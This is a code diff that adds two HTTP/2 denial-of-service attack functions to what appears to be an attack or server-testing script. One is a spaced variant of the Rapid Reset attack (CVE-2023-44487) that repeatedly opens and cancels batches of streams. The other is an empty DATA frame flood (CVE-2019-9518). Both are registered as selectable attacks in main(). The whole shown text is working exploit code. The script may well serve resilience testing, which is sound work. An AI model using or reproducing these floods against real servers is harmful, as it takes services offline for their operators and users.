@@ -186,6 +186,33 @@ def rapid_reset(c, authority):
     c.poll(10)
 
 
+def spaced_reset(c, authority):
+    """CVE-2023-44487 spaced out: 50 streams opened, left 20 ms to start (their requests go
+    upstream, to an answer that takes 2 s), then cancelled; and again."""
+    block = request_block(authority, "/?sleep_ms=2000")
+    stream = 1
+    for _ in range(40):  # up to 2,000 streams
+        ids = [stream + 2 * i for i in range(50)]
+        stream += 100
+        if not c.send([headers(i, block) for i in ids]):
+            break
+        c.poll(0.02)
+        if c.closed or not c.send([RstStreamFrame(i, error_code=CANCEL) for i in ids]):
+            break
+        c.poll(0.005)
+        if c.closed:
+            break
+    c.poll(10)
+
+
+def empty_data_flood(c, authority):
+    """CVE-2019-9518: a request whose body comes as empty DATA frames, without end."""
+    block = request_block(authority, "/", [("content-length", "1")])
+    frames = [headers(1, block, end_stream=False)] + [DataFrame(1, b"") for _ in range(10000)]
+    c.send(frames)
+    c.poll(10)
+
+
 def continuation_flood(c, authority):
     """One header block that never ends: CONTINUATION frames without END_HEADERS."""
     block = request_block(authority)
@@ -317,6 +344,12 @@ def main():
     if attack == "rapid_reset":
         c = Client(host, port)
         rapid_reset(c, authority)
+    elif attack == "spaced_reset":
+        c = Client(host, port)
+        spaced_reset(c, authority)
+    elif attack == "empty_data_flood":
+        c = Client(host, port)
+        empty_data_flood(c, authority)
     elif attack == "continuation_flood":
         c = Client(host, port)
         continuation_flood(c, authority)
